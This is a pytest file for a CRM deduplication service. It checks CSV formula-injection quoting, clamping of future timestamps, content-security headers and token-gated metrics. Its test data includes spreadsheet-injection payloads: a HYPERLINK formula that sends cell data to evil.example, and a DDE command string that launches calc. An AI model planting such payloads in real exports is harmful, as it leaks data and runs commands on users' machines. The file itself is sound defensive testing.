"""Output safety: CSV cells a spreadsheet would run are quoted; far-future updated_at is clamped; the review
page's security headers; /metrics without store totals unless authenticated."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import numpy as np
import pytest
from fastapi import HTTPException

from api.cli.common import GROUPS_CSV_COLUMNS, write_groups
from resolver import csvsafe
from resolver.entities import spec_for
from resolver.records import Record
from resolver.store import MAX_FUTURE_SKEW
from tests.api.conftest import cli
from tests.api.test_cli import MAP, write_csv
from training.labels import LabeledPair
from training.retrain import Evaluation, _borderline, _curve_csv

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "plus": "+7 916 123-45-67",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\tx",
    "carriage-return": "\r=1+1",
    "already-quoted": "'=1+1",  # stays readable back as itself: written with one more quote
}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula_cell(text: str) -> None:
    bad = [cell for row in cells(text) for cell in row if cell.startswith(csvsafe.FORMULA_STARTS)]
    assert bad == []


# --- the helper -------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ("+79161234567", "'+79161234567"),  # a phone in E.164: quoted, still the number
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'=x", "''=x"),  # a user's own quote before a formula: one more, so `restore` is exact
    ("Иван Петров", "Иван Петров"),
    ("'quoted", "'quoted"),  # a quote before ordinary text is ordinary text
    ("a=b", "a=b"),  # only the first character matters
    ("", ""),
    (None, None),
    (0.9123, 0.9123),
    (-1, "'-1"),  # every cell obeys the rule; the project's own numbers are never negative
], ids=lambda v: repr(v))
def test_neutralise_quotes_exactly_the_cells_a_spreadsheet_would_run(value, written):
    assert csvsafe.neutralise(value) == written
    if isinstance(value, str):
        assert csvsafe.restore(str(written)) == value


# --- the groups CSV -------------------------------------------------------------------------------------

def groups_row(record_id: str, name: str, phones=(), emails=()) -> dict[str, object]:
    return {"group_id": "g-1", "record_id": record_id, "group_score": 0.9731, "is_survivor": record_id == "1",
            "needs_review": False, "name": name, "phones": list(phones), "emails": list(emails),
            "review_reasons": []}


def test_groups_csv_quotes_names_ids_and_phones_that_start_a_formula():
    rows = [groups_row(str(i), name) for i, name in enumerate(HOSTILE.values(), 1)]
    rows.append(groups_row("-8", "Иван Петров", ["+79161234567", "+74951234567"], ["@corp.example"]))
    out = io.StringIO()

    write_groups(rows, out)

    assert_no_formula_cell(out.getvalue())
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["name"] for r in read] == [*(f"'{n}" for n in HOSTILE.values()), "Иван Петров"]
    assert (read[-1]["record_id"], read[-1]["phones"], read[-1]["emails"]) == (
        "'-8", "'+79161234567; +74951234567", "'@corp.example")
    assert [r["group_score"] for r in read] == ["0.9731"] * len(rows)  # the project's numbers as they were
    # a program reading the CSV back gets every value as it was
    assert [csvsafe.restore(r["name"]) for r in read] == [*HOSTILE.values(), "Иван Петров"]
    assert csvsafe.restore(read[-1]["record_id"]) == "-8"


def test_dedupe_of_a_file_with_formula_names_writes_them_as_text(capsys, tmp_path):
    # each hostile name is typed twice with one phone and email, so both land in the groups CSV (beside a
    # different full name, a shared phone and email no longer group: resolver/evidence.py)
    people = [["Код", "Клиент", "Тел", "Почта", "Изменён"]]
    for i, name in enumerate(HOSTILE.values()):
        phone, email = f"+7 916 55{i}-12-34", f"client{i}@romashka.ru"
        people += [[f"{i}1", name, phone, email, ""], [f"{i}2", name, phone, email, ""]]
    path = write_csv(tmp_path / "people.csv", people)

    code, out, err = cli(capsys, "dedupe", path, "--entity", "contact", *MAP, "--out", tmp_path / "groups.csv")
    assert out == ""  # the groups go to the file

    assert code == 0, err
    text = (tmp_path / "groups.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(GROUPS_CSV_COLUMNS)
    assert_no_formula_cell(text)
    read = list(csv.DictReader(io.StringIO(text)))
    names = {csvsafe.restore(r["name"]) for r in read}
    assert {HOSTILE["formula"], HOSTILE["at"], HOSTILE["minus"]} <= names
    assert all(r["phones"].startswith("'+7") for r in read)


def test_retrain_csvs_quote_record_ids_and_keep_their_numbers():
    labels = [LabeledPair("=cmd", "@x", 1), LabeledPair("-1", "2", 0), LabeledPair("10", "11", 1)]
    y = np.array([1, 0, 1])
    p = np.array([0.61, 0.58, 0.97])

    borderline = _borderline(labels, y, p, np.array([0, 1, 2]), review=0.6)
    curve = _curve_csv(Evaluation(pr_auc=0.9, f1_at_review=0.8, curve={t: (0.9, 0.8, 0.85) for t in _thresholds()}),
                       None)

    assert_no_formula_cell(borderline)
    assert_no_formula_cell(curve)
    assert cells(borderline)[1:] == [["'=cmd", "'@x", "1", "0.610000"], ["'-1", "2", "0", "0.580000"],
                                     ["10", "11", "1", "0.970000"]]
    assert cells(curve)[1][1:4] == ["0.9000", "0.8000", "0.8500"]


def _thresholds():
    from training.evaluate import LABEL_THRESHOLDS
    return LABEL_THRESHOLDS


# --- updated_at from the future ---------------------------------------------------------------------------

def contact(name: str, updated_at: datetime | None) -> Record:
    return Record("contact", "7", name=name, phones=("+7 916 123-45-67",), updated_at=updated_at)


def test_a_year_9999_update_is_clamped_so_a_later_real_update_wins(store):
    spec = spec_for("contact")
    before = datetime.now(UTC)

    store.upsert_records("acme", spec, [contact("Год 9999", datetime(9999, 12, 31, tzinfo=UTC))])
    stored = store.record("acme", "contact", "7")
    store.upsert_records("acme", spec, [contact("Петров Иван", datetime.now(UTC))])

    assert stored is not None and before <= stored["updated_at"] <= datetime.now(UTC)
    assert store.record("acme", "contact", "7")["name"] == "Петров Иван"


def test_a_little_clock_skew_is_kept_as_sent(store):
    spec = spec_for("contact")
    ahead = (datetime.now(UTC) + MAX_FUTURE_SKEW / 2).replace(microsecond=0)

    store.upsert_records("acme", spec, [contact("Петров Иван", ahead)])
    store.upsert_records("acme", spec, [contact("Старая версия", ahead - timedelta(hours=1))])

    record = store.record("acme", "contact", "7")
    assert (record["updated_at"], record["name"]) == (ahead, "Петров Иван")  # an older update still loses


def test_a_record_frozen_in_year_9999_before_the_clamp_takes_updates_again(store):
    spec = spec_for("contact")
    store.upsert_records("acme", spec, [contact("Петров Иван", datetime(2024, 5, 1, tzinfo=UTC))])
    store._execute("UPDATE records SET updated_at = TIMESTAMPTZ '9999-12-31 00:00:00+00', name = 'Замороженный'")

    store.upsert_records("acme", spec, [contact("Петров Иван Сергеевич", datetime.now(UTC))])

    assert store.record("acme", "contact", "7")["name"] == "Петров Иван Сергеевич"


def test_over_the_api_a_year_9999_record_can_be_updated_later(api, acme):
    first = {"id": "7", "name": "Год 9999", "phones": ["+7 916 123-45-67"], "updated_at": "9999-12-31T23:59:59Z"}

    assert api.client.put("/v1/contacts/7", json=first, headers=acme).status_code == 200
    # an edit made after that write (its updated_at was clamped to the write's time)
    later = {**first, "name": "Петров Иван", "updated_at": datetime.now(UTC).isoformat()}
    assert api.client.put("/v1/contacts/7", json=later, headers=acme).status_code == 200

    assert api.client.get("/v1/contacts/7", headers=acme).json()["name"] == "Петров Иван"


# --- the review page's headers ----------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/ui/", "/ui/main.js", "/ui/app.css", "/ui/settings.json", "/ui"])
def test_the_review_page_is_served_with_a_strict_policy(api, path):
    response = api.client.get(path, follow_redirects=False)

    assert response.status_code in (200, 307)
    policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
    assert policy == {"default-src": "'self'", "script-src": "'self'", "style-src": "'self'",
                      "img-src": "'self' data:", "connect-src": "'self'", "object-src": "'none'",
                      "frame-ancestors": "'none'", "base-uri": "'none'", "form-action": "'self'"}
    assert (response.headers["x-frame-options"], response.headers["x-content-type-options"],
            response.headers["referrer-policy"]) == ("DENY", "nosniff", "no-referrer")


def test_the_page_has_no_inline_script_or_style_the_policy_would_refuse():
    from api.routers.ui import _UI_DIR

    html = (_UI_DIR / "index.html").read_text(encoding="utf-8")
    assert "<style" not in html and " style=" not in html and " on" + "click=" not in html
    assert all('src="' in tag for tag in html.split("<script")[1:])  # every script is a file
    scripts = " ".join(p.read_text(encoding="utf-8") for p in _UI_DIR.glob("*.js"))
    assert 'setAttribute("style"' not in scripts  # a style attribute is inline style; the CSSOM is not


@pytest.mark.parametrize(("method", "path", "status"), [
    ("GET", "/healthz", 200), ("GET", "/metrics", 200), ("GET", "/v1/groups", 401), ("GET", "/nowhere", 404),
    ("GET", "/openapi.json", 200)])
def test_every_answer_says_nosniff(api, method, path, status):
    response = api.client.request(method, path)

    assert response.status_code == status
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "content-security-policy" not in response.headers or path.startswith("/ui")


# --- /metrics: the store's totals for the operator's scraper only -----------------------------------------

SCRAPER_TOKEN = "scraper-token-0123456789"
STORE_FAMILIES = ("crm_dedup_store_up", "crm_dedup_records", "crm_dedup_groups", "crm_dedup_pairs")


def families(text: str) -> set[str]:
    return {line.split("{")[0].split(" ")[0] for line in text.splitlines() if line and not line.startswith("#")}


@pytest.fixture
def scraped(make_api):
    api = make_api(metrics_token=SCRAPER_TOKEN)
    headers = api.account("acme")
    api.upsert(headers, [{"id": "1", "name": "Петров Иван", "phones": ["+7 916 123-45-67"]}])
    return api, headers


def test_without_credentials_metrics_are_the_process_only(scraped):
    api, _ = scraped

    response = api.client.get("/metrics")

    assert response.status_code == 200
    assert families(response.text).isdisjoint(STORE_FAMILIES)
    assert {"crm_dedup_http_requests_total", "crm_dedup_model_info"} <= families(response.text)


def test_the_metrics_token_adds_the_store_totals(scraped):
    api, _ = scraped

    response = api.client.get("/metrics", headers={"Authorization": f"Bearer {SCRAPER_TOKEN}"})

    assert response.status_code == 200
    assert set(STORE_FAMILIES) <= families(response.text)
    assert 'crm_dedup_records{entity="contact"} 1' in response.text.splitlines()


@pytest.mark.parametrize("authorization", [
    "tenant",  # an account's own API key: tenants never see totals over all accounts
    f"Bearer {SCRAPER_TOKEN}x", f"Basic {SCRAPER_TOKEN}", "Bearer ", SCRAPER_TOKEN,
], ids=["tenant-key", "wrong-token", "wrong-scheme", "empty", "no-scheme"])
def test_any_other_credential_is_401_and_shows_nothing(scraped, authorization):
    api, tenant = scraped
    header = tenant["Authorization"] if authorization == "tenant" else authorization

    response = api.client.get("/metrics", headers={"Authorization": header})

    assert response.status_code == 401
    assert response.headers["content-type"] == "application/problem+json"
    assert response.headers["www-authenticate"].startswith("Bearer")
    assert "crm_dedup" not in response.text


def test_without_a_configured_token_nobody_reads_the_totals(api, acme):
    assert api.client.get("/metrics", headers=acme).status_code == 401
    assert families(api.client.get("/metrics").text).isdisjoint(STORE_FAMILIES)


def test_the_admin_token_reads_the_totals_too():
    # the admin API's token (CRM_DEDUP_ADMIN_TOKEN) is an operator's credential as well
    from api.routers.health import _scraper

    settings = SimpleNamespace(metrics_token=None, admin_token="admin-token-0123456789")

    assert _scraper("Bearer admin-token-0123456789", settings) is True  # type: ignore[arg-type]
    assert _scraper(None, settings) is False  # type: ignore[arg-type]
    with pytest.raises(HTTPException) as refused:
        _scraper("Bearer admin-token-01234567890", settings)  # type: ignore[arg-type]
    assert refused.value.status_code == 401
